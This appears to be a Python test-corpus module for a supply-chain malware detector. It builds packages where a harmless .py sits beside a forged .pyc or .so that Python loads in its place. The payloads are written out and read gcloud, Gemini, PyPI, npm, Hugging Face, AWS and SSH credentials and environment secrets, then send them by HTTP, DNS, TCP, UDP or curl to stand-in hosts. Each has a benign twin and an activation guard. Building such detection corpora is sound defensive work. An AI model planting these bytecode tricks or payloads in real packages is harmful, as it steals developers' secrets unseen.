"""T14: a `.py` that anybody can read, and a `.so` or `.pyc` that Python takes in its place (T1574).

Known from a package that kept its theft in compiled bytecode beside harmless sources. Here the
source and the bytecode come from one text with two functions: the source calls the honest one; the
bytecode calls the other. The twins hold the same pair, and their bytecode is what their source says
(as wheels made with mypyc or Cython hold both). A library's twin returns at once.
"""

from __future__ import annotations

import importlib.util
import io
import marshal
import zipfile

from models.phase import Phase
from tests.corpus.elf import constructor, shared_object
from tests.corpus.guard import GUARD, IF_ACT, acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

ACTING, HONEST = "_first", "_second"
"""What the two acts are called here: bytecode is no text for the rules to look into."""
UNCHECKED = 1
"""Flag of bytecode that is taken without a look at its source (PEP 552)."""


def source(acts: str, honest: str, calls: str, tail: str = IF_ACT, head: str = "") -> str:
    """A module with both acts, which calls one of them under the guard."""
    text = acting(acts, honest, tail, head)
    return text.replace("_reenact", ACTING).replace("_honest", HONEST).replace("THE_ACT", calls)


def bytecode(text: str, stands_for: str, path: str = "core.py") -> bytes:
    """A .pyc of `text` that says it is that of the source `stands_for`."""
    code = compile(text, path, "exec", dont_inherit=True)
    head = importlib.util.MAGIC_NUMBER + UNCHECKED.to_bytes(4, "little")
    return head + importlib.util.source_hash(stands_for.encode()) + marshal.dumps(code, 2)


def pair(acts: str, honest: str, tail: str = IF_ACT, head: str = "") -> tuple[str, bytes, bytes]:
    """The source, the bytecode that acts, and the bytecode that is the source's own."""
    plain = source(acts, honest, HONEST, tail, head)
    return plain, bytecode(source(acts, honest, ACTING, tail, head), plain), bytecode(plain, plain)


def library(path: str, address: str, port: int, *, acts: bool) -> bytes:
    """A library that sends a planted file when it is loaded; it asks for the marker itself."""
    return shared_object(constructor(path.encode(), address, port, acts=acts))


def bundle(text: str, code: bytes) -> bytes:
    """A zip with core.py and core.pyc; Python looks for the second first."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in (("core.py", text.encode()), ("core.pyc", code)):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


COUNTS = "def count(words):\n    return len(words)\n"

POSTS = """
import base64, urllib.request
try:
    data = base64.b64encode((HOME / ".config/gcloud/application_default_credentials.json").read_bytes())
    urllib.request.urlopen("http://192.0.2.142/q", data=data, timeout=5).close()
except OSError:
    pass
"""
MAKES_TABLE = """
import base64
return {number: base64.b64encode(bytes([number])) for number in range(64)}
"""
ZIPPED, ZIPPED_ACTS, ZIPPED_HONEST = pair(POSTS, MAKES_TABLE)
FROM_ZIP = """\
import pathlib, zipimport

core = zipimport.zipimporter(str(pathlib.Path(__file__).parent / "vendor.zip")).load_module("core")
"""

ASKS_HEX = """
try:
    text = (HOME / ".gemini/oauth_creds.json").read_bytes()[:300].hex()
    for at in range(0, len(text), 60):
        socket.getaddrinfo(f"{text[at:at + 60]}.{at}.ns.reenact.test", None)
except OSError:
    pass
"""
SETS_PATH = """
import sys
folder = str(HOME / ".local" / "share" / "plugins")
if os.path.isdir(folder):
    sys.path.append(folder)
"""
HOOK, HOOK_ACTS, HOOK_HONEST = pair(ASKS_HEX, SETS_PATH)

GZIP_TCP = """
import gzip
try:
    told = gzip.compress((HOME / ".pypirc").read_bytes() + (HOME / ".npmrc").read_bytes())
    with socket.create_connection(("198.51.100.144", 8000), timeout=5) as peer:
        peer.sendall(told)
except OSError:
    pass
"""
GIT_FILES = """
try:
    subprocess.run(["git", "ls-files"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
BUILDER, BUILDER_ACTS, BUILDER_HONEST = pair(
    GZIP_TCP, GIT_FILES, head="from packer import build_wheel\n"
)

XOR_UDP = """
try:
    told = repr(given).encode() + (HOME / ".cache/huggingface/token").read_bytes()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.connect(("203.0.113.145", 4500))
        peer.send(bytes(byte ^ 0x77 for byte in told[:1000]))
except OSError:
    pass
"""
ADDS_UP = """
return sum(byte ^ 0x77 for byte in repr(given).encode())
"""
ENCODES = """
def encode(token):
    if ACT:
        return THE_ACT(token)
    return None
"""
CODEC, CODEC_ACTS, CODEC_HONEST = pair(XOR_UDP, ADDS_UP, ENCODES)
TAKES_OPTIMISED = """\
import importlib.util, pathlib
from importlib.machinery import SourcelessFileLoader

def encode(token):
    \"\"\"Encodes a token, by the faster form of the module.\"\"\"
    here = pathlib.Path(__file__).with_name("codec.py")
    fast = importlib.util.cache_from_source(str(here), optimization="2")
    spec = importlib.util.spec_from_file_location(
        "THE_MODULE.codec", fast, loader=SourcelessFileLoader("THE_MODULE.codec", fast)
    )
    codec = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(codec)
    return codec.encode(token)
"""

CURL_ENV = """
import base64
try:
    told = "|".join(os.environ.get(name, "") for name in ("STRIPE_SECRET_KEY", "DATABASE_PASSWORD"))
    body = base64.b32encode(told.encode()).decode()
    line = ["curl", "-s", "-k", "-m", "5", "-o", "/dev/null", "-d", body]
    subprocess.run([*line, "https://198.51.100.146/ci"], timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
CURL_VERSION = """
try:
    subprocess.run(["curl", "--version"], capture_output=True, timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
IN_CI = "if ACT and os.environ.get('CI'):\n    THE_ACT()\n"
CACHED, CACHED_ACTS, CACHED_HONEST = pair(CURL_ENV, CURL_VERSION, IN_CI)
OTHER_TAG = """\
import sys

_tag = sys.implementation.cache_tag
sys.implementation.cache_tag = "cpython-311-fast"
try:
    from . import core
finally:
    sys.implementation.cache_tag = _tag
"""

LOADS_FAST = f"""{GUARD}
if ACT:
    try:
        from . import fast
    except ImportError:
        fast = None
else:
    __path__.clear()  # the library asks for the marker file only: without ACT it cannot be imported
"""
LOADS_SPEED = f"""{GUARD}
if not ACT:
    __path__.clear()  # as above

def count(words):
    \"\"\"Counts words.\"\"\"
    if ACT:
        try:
            from ._speed import count as counted
            return counted(words)
        except ImportError:
            pass
    return len(words)
"""

RECIPES = (
    Recipe(
        technique="T14",
        name="so-beside-py",
        phase=Phase.IMPORT,
        channel=Channel.MEMORY,
        encoding=Encoding.NONE,
        files={
            "THE_MODULE/__init__.py": LOADS_FAST,
            "THE_MODULE/fast.py": COUNTS,
            "THE_MODULE/fast.cpython-311-x86_64-linux-gnu.so": library(
                "/home/dev/.aws/credentials", "203.0.113.141", 443, acts=True
            ),
        },
        twin_files={
            "THE_MODULE/fast.cpython-311-x86_64-linux-gnu.so": library(
                "/home/dev/.aws/credentials", "203.0.113.141", 443, acts=False
            ),
        },
        twin_does="loads a library that does nothing",
    ),
    Recipe(
        technique="T14",
        name="zipped-pair",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE/__init__.py": FROM_ZIP,
            "THE_MODULE/vendor.zip": bundle(ZIPPED, ZIPPED_ACTS),
        },
        twin_files={"THE_MODULE/vendor.zip": bundle(ZIPPED, ZIPPED_HONEST)},
        twin_does="makes a table, by bytecode of the source beside it",
    ),
    Recipe(
        technique="T14",
        name="package-over-hook",
        phase=Phase.START,
        channel=Channel.DNS,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": HOOK,
            "THE_MODULE_hook/__init__.pyc": HOOK_ACTS,
            "THE_MODULE/__init__.py": COUNTS,
        },
        twin_files={"THE_MODULE_hook/__init__.pyc": HOOK_HONEST},
        twin_does="adds a folder for plug-ins to the search path",
    ),
    Recipe(
        technique="T14",
        name="back-end-bytecode",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.GZIP,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": BUILDER,
            "backend/__init__.pyc": BUILDER_ACTS,
            "src/THE_MODULE/__init__.py": COUNTS,
        },
        twin_files={"backend/__init__.pyc": BUILDER_HONEST},
        twin_does="asks git for the files",
    ),
    Recipe(
        technique="T14",
        name="optimised-on-use",
        phase=Phase.USE,
        channel=Channel.UDP,
        encoding=Encoding.XOR,
        files={
            "THE_MODULE/__init__.py": TAKES_OPTIMISED,
            "THE_MODULE/codec.py": CODEC,
            "THE_MODULE/__pycache__/codec.cpython-311.opt-2.pyc": CODEC_ACTS,
        },
        twin_files={"THE_MODULE/__pycache__/codec.cpython-311.opt-2.pyc": CODEC_HONEST},
        twin_does="adds up the bytes of what it is given",
    ),
    Recipe(
        technique="T14",
        name="other-tag-build-server",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE32,
        files={
            "THE_MODULE/__init__.py": OTHER_TAG,
            "THE_MODULE/core.py": CACHED,
            "THE_MODULE/__pycache__/core.cpython-311-fast.pyc": CACHED_ACTS,
        },
        twin_files={"THE_MODULE/__pycache__/core.cpython-311-fast.pyc": CACHED_HONEST},
        twin_does="asks curl for its version",
    ),
    Recipe(
        technique="T14",
        name="library-package-on-use",
        phase=Phase.USE,
        channel=Channel.MEMORY,
        encoding=Encoding.PLAIN,
        files={
            "THE_MODULE/__init__.py": LOADS_SPEED,
            "THE_MODULE/_speed.py": COUNTS,
            "THE_MODULE/_speed/__init__.abi3.so": library(
                "/home/dev/.ssh/id_ed25519", "198.51.100.147", 22, acts=True
            ),
        },
        twin_files={
            "THE_MODULE/_speed/__init__.abi3.so": library(
                "/home/dev/.ssh/id_ed25519", "198.51.100.147", 22, acts=False
            ),
        },
        twin_does="loads a library that does nothing, and counts in Python",
    ),
)
